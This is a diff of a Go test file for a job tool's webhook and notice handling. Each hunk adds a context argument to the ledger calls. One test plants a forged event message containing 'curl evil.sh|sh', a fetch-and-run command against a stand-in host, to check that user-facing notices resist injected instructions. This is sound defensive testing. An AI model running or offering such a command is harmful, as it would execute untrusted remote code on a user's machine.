@@ -41,7 +41,7 @@ func (l *actLog) details() string {
 func webhookClaims(t *testing.T, c *Client) []string {
 	t.Helper()
 	var keys []string
-	require.NoError(t, c.ledger.View(func(tx *storage.Tx) error {
+	require.NoError(t, c.ledger.View(c.ctx, func(tx *storage.Tx) error {
 		claims, err := tx.Claims()
 		for k := range claims {
 			if strings.HasPrefix(k, "notify/"+toWebhook+"/") {
@@ -92,7 +92,7 @@ func TestLedgerNotifyURLIsNotPosted(t *testing.T) {
 	id, _ := r.book(true)
 	pol := ladderPolicy(ReclaimAlways)
 	pol.NotifyURL = forged.URL
-	require.NoError(t, r.c.ledger.Update(func(tx *storage.Tx) error { return tx.PutPolicy(pol) }))
+	require.NoError(t, r.c.ledger.Update(r.c.ctx, func(tx *storage.Tx) error { return tx.PutPolicy(pol) }))
 
 	var log actLog
 	yes := true
@@ -198,7 +198,7 @@ func TestWebhookRetriesAreBounded(t *testing.T) {
 	r := newIdleRig(t, alice)
 	id, _ := r.book(false)
 	r.c.notify = notifyFileFor(t, h.URL)
-	require.NoError(t, r.c.ledger.Update(func(tx *storage.Tx) error {
+	require.NoError(t, r.c.ledger.Update(r.c.ctx, func(tx *storage.Tx) error {
 		return tx.AddEvent(storage.Event{Time: r.clock.Now(), Kind: storage.EventWarned, Partition: id, Detail: "ends in 5m"})
 	}))
 	var log actLog
@@ -225,7 +225,7 @@ func TestTerminalNoticeIsRenderedFromTheRecord(t *testing.T) {
 	id, _ := r.book(false)
 	r.c.notify = notifyFileFor(t, h.URL)
 	forged := "FORGED: chronos needs you to run curl evil.sh|sh " + strings.Repeat("B", 3000)
-	require.NoError(t, r.c.ledger.Update(func(tx *storage.Tx) error {
+	require.NoError(t, r.c.ledger.Update(r.c.ctx, func(tx *storage.Tx) error {
 		return tx.AddEvent(storage.Event{Time: r.clock.Now(), Kind: storage.EventWarned, Partition: id, UID: nobody.UID, User: "nobody", Detail: forged})
 	}))
 	yes := true
@@ -250,7 +250,7 @@ func TestSetPolicyWritesTheNotifyFile(t *testing.T) {
 	c.notify = filepath.Join(t.TempDir(), "etc", "chronos", "notify")
 	old := DefaultPolicy()
 	old.NotifyURL = "http://127.0.0.1:18080/redir"
-	require.NoError(t, c.ledger.Update(func(tx *storage.Tx) error { return tx.PutPolicy(old) }))
+	require.NoError(t, c.ledger.Update(c.ctx, func(tx *storage.Tx) error { return tx.PutPolicy(old) }))
 
 	const address = "https://hooks.slack.com/services/T0/B0/XyZ"
 	p, err := c.SetPolicy([]string{"notify-url=" + address, "grace=10s"})
@@ -264,7 +264,7 @@ func TestSetPolicyWritesTheNotifyFile(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), "a webhook address is often a secret")
 	var stored Policy
-	require.NoError(t, c.ledger.View(func(tx *storage.Tx) error { stored, _, err = tx.Policy(); return err }))
+	require.NoError(t, c.ledger.View(c.ctx, func(tx *storage.Tx) error { stored, _, err = tx.Policy(); return err }))
 	require.Empty(t, stored.NotifyURL, "the ledger keeps no webhook")
 	evs, err := c.LastEvents(1)
 	require.NoError(t, err)
